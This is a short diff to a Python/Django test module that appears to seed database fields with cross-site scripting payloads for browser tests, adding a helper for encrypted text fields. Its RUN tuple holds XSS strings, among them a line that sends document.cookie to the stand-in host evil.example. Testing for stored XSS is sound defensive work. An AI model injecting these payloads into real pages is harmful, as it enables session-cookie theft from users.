@@ -11,6 +11,7 @@ from bank.models import Capability, Sample
 from tests.access.test_routes import TABLE
 from tests.access.world import PUBLIC, routes
 from tests.browser.conftest import opened
+from tests.hidden import change
 
 pytestmark = pytest.mark.django_db(transaction=True)
 RUN = ("xss()", "window.parent.xss()", "top['x'+'ss']()", "fetch('//evil.example/'+document.cookie)")
@@ -89,7 +90,10 @@ def fill():
                 else:
                     start = place % len(PAYLOADS)
                     text = "\n\n".join(PAYLOADS[start:] + PAYLOADS[:start])
-                if text and not (isinstance(field, EncryptedTextField) and model.__name__ == "CriterionRevision"):
+                if text and isinstance(field, EncryptedTextField) and field.row:
+                    if model.__name__ != "CriterionRevision":
+                        change(model._base_manager.filter(pk=row.pk), **{field.name: text})
+                elif text:
                     model._base_manager.filter(pk=row.pk).update(**{field.name: text})
     Capability.objects.update(path=models.F("name"))  # a path is made of names
     Sample.objects.update(options={"A": PAYLOADS[0], PAYLOADS[3]: PAYLOADS[4]}, metadata={PAYLOADS[0]: PAYLOADS[1]})
